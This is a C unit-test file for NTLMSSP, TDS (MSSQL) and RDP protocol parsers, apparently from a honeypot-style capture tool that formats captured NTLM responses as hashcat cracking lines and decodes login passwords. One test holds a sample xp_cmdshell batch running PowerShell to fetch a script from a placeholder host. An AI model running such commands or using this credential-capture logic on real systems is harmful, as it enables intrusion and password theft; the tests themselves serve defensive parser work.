/*
 * test_ntlm.c - unit tests for src/proto/ntlm.c (NTLMSSP) and the TDS and
 * RDP parsers built on it (src/proto/mssql.c, src/proto/rdp.c).
 *
 * NTLM: the MS-NLMP 4.2.4 NTLMv2 example (user "User", domain "Domain",
 * server challenge 0123456789abcdef, client challenge aa..) parsed from an
 * AUTHENTICATE message built here, and its hashcat 5600 line exact (the
 * NTProofStr 68cd0ab8... of the spec, which hashcat recomputes from the
 * blob); NTLMv1 as mode 5500; NEGOTIATE fields; our CHALLENGE decoded back
 * (flags, target name, AV pairs with MsvAvTimestamp, version); hostile
 * security buffers; UTF-16 conversion; SPNEGO wrapping found again.
 * TDS: PRELOGIN options, LOGIN7 with an obfuscated password, TDS 4.2 login,
 * batch text with ALL_HEADERS, xp_cmdshell extraction.  RDP: X.224
 * Connection Request with cookie and negotiation request, TSRequest DER.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include "buf.h"
#include "proto/mssql.h"
#include "proto/ntlm.h"
#include "proto/rdp.h"

static void hex_in(const char *h, uint8_t *out, size_t *n)
{
    size_t k = 0;
    for (; h[0] && h[1]; h += 2) {
        unsigned v;
        sscanf(h, "%2x", &v);
        out[k++] = (uint8_t)v;
    }
    *n = k;
}

static void u16(struct hp_buf *b, const char *s)
{
    hp_utf8_to_utf16le(b, s, strlen(s));
}

static void le16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
}

static void le32(uint8_t *p, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        p[i] = (uint8_t)(v >> (8 * i));
}

/* An AUTHENTICATE_MESSAGE with the given fields (header 72 bytes incl. version). */
static void build_auth(struct hp_buf *m, const char *dom, const char *user, const char *ws, const uint8_t *lm,
                       size_t lmlen, const uint8_t *nt, size_t ntlen, uint32_t flags)
{
    struct hp_buf d, u, w;
    hp_buf_init(&d, 512);
    hp_buf_init(&u, 512);
    hp_buf_init(&w, 512);
    u16(&d, dom);
    u16(&u, user);
    u16(&w, ws);
    uint8_t h[72] = { 'N', 'T', 'L', 'M', 'S', 'S', 'P', 0, 3, 0, 0, 0 };
    size_t off = sizeof(h);
    struct { size_t len; size_t at; } f[6] = {
        { lmlen, 12 }, { ntlen, 20 }, { d.len, 28 }, { u.len, 36 }, { w.len, 44 }, { 0, 52 } };
    for (int i = 0; i < 6; i++) {
        le16(h + f[i].at, (uint16_t)f[i].len);
        le16(h + f[i].at + 2, (uint16_t)f[i].len);
        le32(h + f[i].at + 4, (uint32_t)off);
        off += f[i].len;
    }
    le32(h + 60, flags);
    hp_buf_put(m, h, sizeof(h));
    if (lmlen)
        hp_buf_put(m, lm, lmlen);
    if (ntlen)
        hp_buf_put(m, nt, ntlen);
    hp_buf_put(m, d.data, d.len);
    hp_buf_put(m, u.data, u.len);
    hp_buf_put(m, w.data, w.len);
    hp_buf_free(&d);
    hp_buf_free(&u);
    hp_buf_free(&w);
}

/* MS-NLMP 4.2.4: temp = 0101 0000 00000000 time client-challenge 0 AV-pairs 0. */
static const char spec_temp[] = "01010000000000000000000000000000aaaaaaaaaaaaaaaa00000000"
                                "02000c0044006f006d00610069006e0001000c005300650072007600650072000000000000000000";

static void test_ntlmv2_spec_vector(void **state)
{
    (void)state;
    uint8_t nt[256], lm[24] = { 0 };
    size_t tlen;
    hex_in("68cd0ab851e51c96aabc927bebef6a1c", nt, &tlen);
    size_t n16 = tlen;
    hex_in(spec_temp, nt + n16, &tlen);
    struct hp_buf m;
    hp_buf_init(&m, 4096);
    build_auth(&m, "Domain", "User", "COMPUTER", lm, 24, nt, n16 + tlen,
               HP_NTLM_NEG_UNICODE | HP_NTLM_NEG_NTLM | HP_NTLM_NEG_EXT_SESSIONSEC);
    assert_int_equal(hp_ntlm_type(m.data, m.len), HP_NTLM_AUTHENTICATE);
    struct hp_ntlm_auth a;
    assert_int_equal(hp_ntlm_parse_authenticate(m.data, m.len, &a), 0);
    assert_string_equal(a.user, "User");
    assert_string_equal(a.domain, "Domain");
    assert_string_equal(a.workstation, "COMPUTER");
    assert_int_equal(a.nt_len, n16 + tlen);
    assert_false(a.anonymous);
    static const uint8_t chal[8] = { 0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef };
    char line[HP_NTLM_HASHCAT_MAX], want[1024];
    const char *fmt;
    size_t n = hp_ntlm_hashcat(&a, chal, line, sizeof(line), &fmt);
    snprintf(want, sizeof(want), "User::Domain:0123456789abcdef:68cd0ab851e51c96aabc927bebef6a1c:%s", spec_temp);
    assert_string_equal(line, want);
    assert_int_equal(n, strlen(want));
    assert_string_equal(fmt, "hashcat:5600");
    /* too small an output buffer: nothing, never a cut line */
    assert_int_equal(hp_ntlm_hashcat(&a, chal, line, 60, &fmt), 0);
    assert_null(fmt);
    hp_buf_free(&m);
}

static void test_ntlmv1_and_anonymous(void **state)
{
    (void)state;
    uint8_t lm[24], nt[24];
    memset(lm, 0x11, 24);
    memset(nt, 0x22, 24);
    struct hp_buf m;
    hp_buf_init(&m, 4096);
    build_auth(&m, "CORP", "alice", "WS1", lm, 24, nt, 24, HP_NTLM_NEG_UNICODE);
    struct hp_ntlm_auth a;
    assert_int_equal(hp_ntlm_parse_authenticate(m.data, m.len, &a), 0);
    static const uint8_t chal[8] = { 1, 2, 3, 4, 5, 6, 7, 8 };
    char line[HP_NTLM_HASHCAT_MAX];
    const char *fmt;
    hp_ntlm_hashcat(&a, chal, line, sizeof(line), &fmt);
    assert_string_equal(line, "alice::CORP:111111111111111111111111111111111111111111111111:"
                              "222222222222222222222222222222222222222222222222:0102030405060708");
    assert_string_equal(fmt, "hashcat:5500");
    hp_buf_reset(&m);
    build_auth(&m, "", "", "", NULL, 0, NULL, 0, HP_NTLM_NEG_UNICODE | HP_NTLM_NEG_ANONYMOUS);
    assert_int_equal(hp_ntlm_parse_authenticate(m.data, m.len, &a), 0);
    assert_true(a.anonymous);
    assert_int_equal(hp_ntlm_hashcat(&a, chal, line, sizeof(line), &fmt), 0);
    /* OEM names */
    hp_buf_reset(&m);
    build_auth(&m, "", "", "", NULL, 0, nt, 24, 0);
    assert_int_equal(hp_ntlm_parse_authenticate(m.data, m.len, &a), 0);
    hp_buf_free(&m);
}

static void test_hostile_buffers(void **state)
{
    (void)state;
    uint8_t nt[24] = { 0 };
    struct hp_buf m;
    hp_buf_init(&m, 4096);
    build_auth(&m, "D", "U", "W", NULL, 0, nt, 24, HP_NTLM_NEG_UNICODE);
    struct hp_ntlm_auth a;
    /* NT response offset pointing past the end */
    uint8_t *p = malloc(m.len);
    memcpy(p, m.data, m.len);
    le32(p + 24, 0xfffffff0u);
    assert_int_equal(hp_ntlm_parse_authenticate(p, m.len, &a), -1);
    /* length past the end */
    memcpy(p, m.data, m.len);
    le16(p + 20, 0xffff);
    assert_int_equal(hp_ntlm_parse_authenticate(p, m.len, &a), -1);
    /* every truncation fails cleanly or parses */
    for (size_t k = 0; k < m.len; k++)
        (void)hp_ntlm_parse_authenticate(m.data, k, &a);
    assert_int_equal(hp_ntlm_type((const uint8_t *)"NTLMSSP", 7), 0);
    assert_int_equal(hp_ntlm_parse_negotiate(m.data, m.len, &(struct hp_ntlm_negotiate){ 0 }), -1);
    free(p);
    hp_buf_free(&m);
}

static void test_negotiate(void **state)
{
    (void)state;
    uint8_t msg[64] = { 'N', 'T', 'L', 'M', 'S', 'S', 'P', 0, 1, 0, 0, 0 };
    uint32_t flags = 0xe2088297u | HP_NTLM_NEG_VERSION;
    le32(msg + 12, flags);
    le16(msg + 16, 4);
    le16(msg + 18, 4);
    le32(msg + 20, 40);
    le16(msg + 24, 4);
    le16(msg + 26, 4);
    le32(msg + 28, 44);
    msg[32] = 10;
    msg[33] = 0;
    le16(msg + 34, 19041);
    msg[39] = 15;
    memcpy(msg + 40, "CORPWS01", 8);
    struct hp_ntlm_negotiate n;
    assert_int_equal(hp_ntlm_parse_negotiate(msg, 48, &n), 0);
    assert_int_equal(n.flags, flags);
    assert_string_equal(n.domain, "CORP");
    assert_string_equal(n.workstation, "WS01");
    assert_true(n.has_version);
    assert_int_equal(n.os_build, 19041);
    /* the minimal 16-byte form */
    assert_int_equal(hp_ntlm_parse_negotiate(msg, 16, &n), 0);
    assert_int_equal(n.flags, flags);
    assert_string_equal(n.domain, "");
}

static uint16_t rd16(const uint8_t *p)
{
    return (uint16_t)(p[0] | (p[1] << 8));
}

static uint32_t rd32(const uint8_t *p)
{
    return (uint32_t)p[0] | ((uint32_t)p[1] << 8) | ((uint32_t)p[2] << 16) | ((uint32_t)p[3] << 24);
}

static void test_challenge(void **state)
{
    (void)state;
    struct hp_ntlm_identity id = { "SQL01", "CORP", "sql01.corp.local", "corp.local", true, 10, 0, 17763 };
    static const uint8_t chal[8] = { 9, 8, 7, 6, 5, 4, 3, 2 };
    struct hp_buf m;
    hp_buf_init(&m, 4096);
    uint32_t cflags = 0xe2088297u;
    assert_int_equal(hp_ntlm_build_challenge(&id, cflags, chal, 1700000000000000ll, &m), 0);
    const uint8_t *p = m.data;
    assert_int_equal(hp_ntlm_type(p, m.len), HP_NTLM_CHALLENGE);
    uint32_t f = rd32(p + 20);
    assert_true(f & HP_NTLM_NEG_UNICODE);
    assert_true(f & HP_NTLM_NEG_TARGET_INFO);
    assert_true(f & HP_NTLM_TARGET_TYPE_DOMAIN);
    assert_true(f & HP_NTLM_NEG_EXT_SESSIONSEC);
    assert_true(f & HP_NTLM_NEG_KEY_EXCH);
    assert_memory_equal(p + 24, chal, 8);
    char name[64];
    hp_utf16le_to_utf8(p + rd32(p + 16), rd16(p + 12), name, sizeof(name));
    assert_string_equal(name, "CORP");
    assert_int_equal(p[48], 10);
    assert_int_equal(rd16(p + 50), 17763);
    assert_int_equal(p[55], 15);
    /* AV pairs: every id once, in Windows' order, timestamp in FILETIME */
    const uint8_t *av = p + rd32(p + 44);
    size_t avlen = rd16(p + 40), off = 0;
    assert_true(rd32(p + 44) + avlen == m.len);
    int ids[8], nids = 0;
    uint64_t ft = 0;
    while (off + 4 <= avlen && nids < 8) {
        uint16_t aid = rd16(av + off), alen = rd16(av + off + 2);
        ids[nids++] = aid;
        if (aid == 3) {
            hp_utf16le_to_utf8(av + off + 4, alen, name, sizeof(name));
            assert_string_equal(name, "sql01.corp.local");
        }
        if (aid == 7)
            ft = rd32(av + off + 4) | ((uint64_t)rd32(av + off + 8) << 32);
        off += 4u + alen;
        if (aid == 0)
            break;
    }
    int want[] = { 2, 1, 4, 3, 5, 7, 0 };
    assert_int_equal(nids, 7);
    assert_memory_equal(ids, want, sizeof(want));
    assert_true(ft == 1700000000000000ull * 10 + 116444736000000000ull);
    /* a workgroup server: server target type, OEM when the client asks */
    struct hp_ntlm_identity wg = { "WIN-ABC", "WIN-ABC", "WIN-ABC", "WIN-ABC", false, 10, 0, 14393 };
    hp_buf_reset(&m);
    assert_int_equal(hp_ntlm_build_challenge(&wg, HP_NTLM_NEG_OEM, chal, 0, &m), 0);
    f = rd32(m.data + 20);
    assert_true(f & HP_NTLM_TARGET_TYPE_SERVER);
    assert_true(f & HP_NTLM_NEG_OEM);
    assert_false(f & HP_NTLM_NEG_UNICODE);
    assert_memory_equal(m.data + rd32(m.data + 16), "WIN-ABC", 7);
    /* the SPNEGO wrapper is found again */
    struct hp_buf w;
    hp_buf_init(&w, 8192);
    assert_int_equal(hp_spnego_wrap_ntlm(m.data, m.len, &w), 0);
    assert_int_equal(w.data[0], 0xa1);
    long at = hp_ntlm_find(w.data, w.len);
    assert_true(at > 0);
    assert_int_equal(w.len - (size_t)at, m.len);
    assert_int_equal(hp_ntlm_find((const uint8_t *)"xxNTLMSSP", 9), -1);
    hp_buf_free(&w);
    hp_buf_free(&m);
}

static void test_utf16(void **state)
{
    (void)state;
    char out[16];
    static const uint8_t s[] = { 'a', 0, 0x3d, 0xd8, 0x00, 0xde, 0xe9, 0x00, 0x00, 0xdc, 'z', 0 };
    hp_utf16le_to_utf8(s, sizeof(s), out, sizeof(out));
    assert_string_equal(out, "a\xf0\x9f\x98\x80\xc3\xa9\xef\xbf\xbdz");
    /* never a cut character */
    assert_int_equal(hp_utf16le_to_utf8(s, sizeof(s), out, 4), 1);
    assert_int_equal(hp_utf16le_to_utf8(s, 3, out, sizeof(out)), 1);
    struct hp_buf b;
    hp_buf_init(&b, 64);
    assert_true(hp_utf8_to_utf16le(&b, "a\xf0\x9f\x98\x80\xc3\xa9\xff", 8));
    static const uint8_t want[] = { 'a', 0, 0x3d, 0xd8, 0x00, 0xde, 0xe9, 0x00, 0xfd, 0xff };
    assert_int_equal(b.len, sizeof(want));
    assert_memory_equal(b.data, want, sizeof(want));
    hp_buf_reset(&b);
    assert_true(hp_utf8_to_utf16le(&b, "\xe2\x82", 2));    /* cut sequence */
    assert_int_equal(b.len, 4);
    hp_buf_free(&b);
}

/* ---- TDS -------------------------------------------------------------------------------- */

static void test_prelogin(void **state)
{
    (void)state;
    /* nmap's ms-sql-s probe payload */
    static const uint8_t p[] = { 0x00, 0x00, 0x15, 0x00, 0x06, 0x01, 0x00, 0x1b, 0x00, 0x01, 0x02, 0x00, 0x1c, 0x00,
                                 0x0c, 0x03, 0x00, 0x28, 0x00, 0x04, 0xff, 0x08, 0x00, 0x01, 0x55, 0x00, 0x00, 0x00,
                                 'M', 'S', 'S', 'Q', 'L', 'S', 'e', 'r', 'v', 'e', 'r', 0, 0x48, 0x0f, 0, 0 };
    struct hp_mssql_prelogin pl;
    assert_int_equal(hp_mssql_parse_prelogin(p, sizeof(p), &pl), 0);
    assert_true(pl.has_version);
    assert_int_equal(pl.major, 8);
    assert_int_equal(pl.build, 341);
    assert_int_equal(pl.encryption, 0);
    assert_string_equal(pl.instance, "MSSQLServer");
    assert_false(pl.has_mars);
    for (size_t k = 0; k < sizeof(p); k++)
        assert_int_equal(hp_mssql_parse_prelogin(p, k, &pl), -1);
}

/* A LOGIN7 payload with the given strings (password obfuscated here). */
static void build_login7(struct hp_buf *m, const char *host, const char *user, const char *pass, const char *app,
                         const char *db)
{
    const char *strs[9] = { host, user, pass, app, "srv", "", "ODBC", "", db };
    uint8_t h[94] = { 0 };
    struct hp_buf data;
    hp_buf_init(&data, 8192);
    le32(h + 4, 0x74000004u);
    le32(h + 8, 4096);
    size_t off = sizeof(h);
    for (int i = 0; i < 9; i++) {
        size_t at = 36 + 4 * (size_t)i;
        size_t before = data.len;
        u16(&data, strs[i]);
        if (i == 2) {              /* swap nibbles, XOR 0xA5 */
            for (size_t k = before; k < data.len; k++) {
                uint8_t b = data.data[k];
                data.data[k] = (uint8_t)(((b << 4) | (b >> 4)) ^ 0xa5);
            }
        }
        le16(h + at, (uint16_t)(off + before));
        le16(h + at + 2, (uint16_t)((data.len - before) / 2));
    }
    le16(h + 78, (uint16_t)(off + data.len));
    le32(h + 0, (uint32_t)(off + data.len));
    hp_buf_put(m, h, sizeof(h));
    hp_buf_put(m, data.data, data.len);
    hp_buf_free(&data);
}

static void test_login7(void **state)
{
    (void)state;
    struct hp_buf m;
    hp_buf_init(&m, 8192);
    build_login7(&m, "WS-7", "sa", "P@ss w\xc3\xb6rd", "sqlmap", "master");
    struct hp_mssql_login l;
    assert_int_equal(hp_mssql_parse_login7(m.data, m.len, &l), 0);
    assert_string_equal(l.host, "WS-7");
    assert_string_equal(l.user, "sa");
    assert_string_equal(l.password, "P@ss w\xc3\xb6rd");
    assert_int_equal(l.password_len, strlen("P@ss w\xc3\xb6rd"));
    assert_string_equal(l.app, "sqlmap");
    assert_string_equal(l.server, "srv");
    assert_string_equal(l.library, "ODBC");
    assert_string_equal(l.database, "master");
    assert_int_equal(l.tds_version, 0x74000004u);
    assert_false(l.integrated);
    /* a string pointing outside the message */
    le16(m.data + 44, 0xfff0);
    assert_int_equal(hp_mssql_parse_login7(m.data, m.len, &l), -1);
    for (size_t k = 0; k < m.len; k++)
        (void)hp_mssql_parse_login7(m.data, k, &l);
    uint8_t pw[2] = { 0xb6, 0xa5 };        /* '1' obfuscated, then a zero high byte */
    hp_mssql_deobfuscate(pw, 2);
    assert_int_equal(pw[0], 0x31);
    assert_int_equal(pw[1], 0x00);
    hp_buf_free(&m);
}

static void test_login42(void **state)
{
    (void)state;
    uint8_t p[200] = { 0 };
    memcpy(p, "host", 4);
    p[30] = 4;
    memcpy(p + 31, "admin", 5);
    p[61] = 5;
    memcpy(p + 62, "hunter2", 7);
    p[92] = 7;
    struct hp_mssql_login l;
    assert_int_equal(hp_mssql_parse_login42(p, sizeof(p), &l), 0);
    assert_string_equal(l.user, "admin");
    assert_string_equal(l.password, "hunter2");
    p[92] = 200;                   /* a length beyond the field: empty */
    assert_int_equal(hp_mssql_parse_login42(p, sizeof(p), &l), 0);
    assert_string_equal(l.password, "");
    assert_int_equal(hp_mssql_parse_login42(p, 50, &l), -1);
}

static void test_batch(void **state)
{
    (void)state;
    struct hp_buf b;
    hp_buf_init(&b, 4096);
    uint8_t hdr[22] = { 22, 0, 0, 0, 18, 0, 0, 0, 2, 0 };
    hdr[18] = 1;
    hp_buf_put(&b, hdr, sizeof(hdr));
    u16(&b, "EXEC master..xp_cmdshell N'powershell -c \"iwr http://x/a.ps1\" ''q'''");
    char sql[512], cmd[256];
    size_t n = hp_mssql_batch_text(b.data, b.len, true, sql, sizeof(sql));
    assert_string_equal(sql, "EXEC master..xp_cmdshell N'powershell -c \"iwr http://x/a.ps1\" ''q'''");
    assert_true(hp_mssql_xp_cmdshell(sql, n, cmd, sizeof(cmd)) > 0);
    assert_string_equal(cmd, "powershell -c \"iwr http://x/a.ps1\" 'q'");
    /* without ALL_HEADERS (TDS 7.1) */
    hp_buf_reset(&b);
    u16(&b, "select 1");
    hp_mssql_batch_text(b.data, b.len, true, sql, sizeof(sql));
    assert_string_equal(sql, "select 1");
    const char *named = "exec xp_cmdshell @command_string = 'whoami'";
    assert_true(hp_mssql_xp_cmdshell(named, strlen(named), cmd, sizeof(cmd)) > 0);
    assert_string_equal(cmd, "whoami");
    assert_int_equal(hp_mssql_xp_cmdshell("select 2", 8, cmd, sizeof(cmd)), 0);
    assert_int_equal(hp_mssql_xp_cmdshell("xp_cmdshell", 11, cmd, sizeof(cmd)), 0);
    hp_buf_free(&b);
}

/* ---- RDP --------------------------------------------------------------------------------- */

static void test_rdp_cr(void **state)
{
    (void)state;
    /* nmap's TerminalServerCookie probe */
    static const uint8_t p[] = "\x03\0\0*%\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0";
    struct hp_rdp_cr cr;
    assert_int_equal(hp_rdp_parse_cr(p, sizeof(p) - 1, &cr), 42);
    assert_string_equal(cr.cookie, "mstshash=nmap");
    assert_string_equal(cr.username, "nmap");
    assert_true(cr.has_neg);
    assert_int_equal(cr.protocols, 3);
    for (size_t k = 1; k < 42; k++)
        assert_int_equal(hp_rdp_parse_cr(p, k, &cr), 0);
    static const uint8_t t[] = "\x03\0\0\x0b\x06\xe0\0\0\0\0\0";
    assert_int_equal(hp_rdp_parse_cr(t, 11, &cr), 11);
    assert_false(cr.has_neg);
    static const uint8_t r[] = "\x03\0\0\x1e\x19\xe0\0\0\0\0\0Cookie: msts=3640205228.15629.0000\r\n";
    uint8_t rr[64];
    memcpy(rr, r, sizeof(r) - 1);
    rr[3] = (uint8_t)(sizeof(r) - 1);
    rr[4] = (uint8_t)(sizeof(r) - 1 - 5);
    assert_true(hp_rdp_parse_cr(rr, sizeof(r) - 1, &cr) > 0);
    assert_string_equal(cr.routing_token, "3640205228.15629.0000");
    assert_int_equal(hp_rdp_parse_cr((const uint8_t *)"GET / HTTP/1.0\r\n", 16, &cr), -1);
}

static void test_tsreq(void **state)
{
    (void)state;
    /* TSRequest { version 6, negoTokens { { [0] "NTLMSSP\0\1\0\0\0" } } } */
    static const uint8_t t[] = { 0x30, 0x1d, 0xa0, 0x03, 0x02, 0x01, 0x06, 0xa1, 0x16, 0x30, 0x14, 0x30, 0x12,
                                 0xa0, 0x10, 0x04, 0x0e, 'N', 'T', 'L', 'M', 'S', 'S', 'P', 0, 1, 0, 0, 0, 0x07, 0x82 };
    assert_int_equal(hp_rdp_tsreq_len(t, sizeof(t)), 31);
    assert_int_equal(hp_rdp_tsreq_len(t, 20), 0);
    struct hp_rdp_tsreq ts;
    assert_int_equal(hp_rdp_parse_tsreq(t, sizeof(t), &ts), 0);
    assert_int_equal(ts.version, 6);
    assert_int_equal(ts.token_len, 14);
    assert_int_equal(hp_ntlm_type(ts.token, 12), HP_NTLM_NEGOTIATE);
    uint8_t bad[sizeof(t)];
    memcpy(bad, t, sizeof(t));
    bad[16] = 0x7f;                /* OCTET STRING longer than its container */
    assert_int_equal(hp_rdp_parse_tsreq(bad, sizeof(bad), &ts), -1);
    for (size_t k = 0; k < sizeof(t); k++)
        (void)hp_rdp_parse_tsreq(t, k, &ts);
    assert_int_equal(hp_rdp_tsreq_len((const uint8_t *)"\x30\x84\xff\xff\xff\xff", 6), -1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ntlmv2_spec_vector),
        cmocka_unit_test(test_ntlmv1_and_anonymous),
        cmocka_unit_test(test_hostile_buffers),
        cmocka_unit_test(test_negotiate),
        cmocka_unit_test(test_challenge),
        cmocka_unit_test(test_utf16),
        cmocka_unit_test(test_prelogin),
        cmocka_unit_test(test_login7),
        cmocka_unit_test(test_login42),
        cmocka_unit_test(test_batch),
        cmocka_unit_test(test_rdp_cr),
        cmocka_unit_test(test_tsreq),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
